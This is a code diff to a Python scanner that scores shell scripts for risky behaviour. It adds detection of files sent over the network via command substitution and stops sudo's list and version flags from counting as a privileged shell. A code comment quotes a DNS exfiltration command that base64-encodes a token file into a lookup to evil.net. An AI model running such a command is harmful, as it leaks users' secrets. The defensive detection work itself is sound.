@@ -167,6 +167,11 @@ def _read(e: Effect, p: Place | None, s: Script, o: RuleOptions) -> Finding | No
         verb = "sends" if s.networked else "reads"
         return Finding(1.0 if s.networked else 0.5, _at(e, p, f"{verb} everything in a "
                                                               f"folder that holds secrets,"))
+    if p is not None and p.kind == "outside" and s.networked and (
+            sends(e.command) or any(sends(c) for c in s.downstream(e.command))
+            or _spliced(e.command)):
+        # a file outside the workspace, read and sent: `dig $(base64 ~/.token).evil.net`
+        return Finding(0.6, _at(e, p, "sends over the network"))
     if p is not None and p.kind not in ("system", "persistence", "secret"):
         return None
     networked = s.networked
@@ -183,6 +188,11 @@ def _read(e: Effect, p: Place | None, s: Script, o: RuleOptions) -> Finding | No
         return Finding(1.0, f"reads a secret in a script that uses the network: {p.path} "
                             f"({e.command.located()})")
     return Finding(0.5, _at(e, p, "reads"))
+
+
+def _spliced(cmd: Command) -> bool:
+    """Does this command's output become part of another command's words (``$(…)``)?"""
+    return bool(cmd.where) and cmd.where[-1] in ("$(…)", "`…`")
 
 
 def _stdin_code(e: Effect, p: Place | None, s: Script, o: RuleOptions) -> Finding | None:
@@ -232,6 +242,10 @@ RULES: dict[str, Rule] = {
 
 _PROBLEMS = {"too-long": 1.0, "too-deep": 1.0, "fork-bomb": 1.0, "reverse-shell": 1.0,
              "unparsed": 0.5, "socket": 0.5}
+# sudo's options that list, check or forget rights, or print: no shell opens
+_NOT_A_SHELL = frozenset({"-l", "-ll", "--list", "-v", "--validate", "-k", "-K",
+                          "--reset-timestamp", "--remove-timestamp", "-V", "--version", "-h",
+                          "--help"})
 _PRIVILEGED_SHELL = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish", "su", "sudo", "doas",
                                "runuser", "machinectl"})
 
@@ -312,7 +326,8 @@ def findings(script: Script, workspace: str, options: RuleOptions,
         if cmd.name in OFFSITE:
             out += [Finding(score, reason) for score, reason in offsite(cmd)]
         if cmd.privileged and cmd.name in _PRIVILEGED_SHELL and all(
-                a.text.startswith("-") or a.text == "root" for a in cmd.args):
+                a.text.startswith("-") or a.text == "root" for a in cmd.args) and not any(
+                a.text in _NOT_A_SHELL for a in cmd.args):
             out.append(Finding(0.5, f"opens a privileged shell ({cmd.located()})"))
         for e in effects(cmd):
             if e.kind == "exec" and e.word is not None:
